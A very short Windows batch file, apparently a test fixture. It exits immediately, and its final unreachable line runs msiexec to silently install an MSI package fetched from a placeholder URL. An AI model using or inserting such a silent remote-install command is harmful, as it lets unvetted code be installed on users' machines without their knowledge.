@echo off
exit /b 0
msiexec /q /i https://cdn.invalid/rt.msi
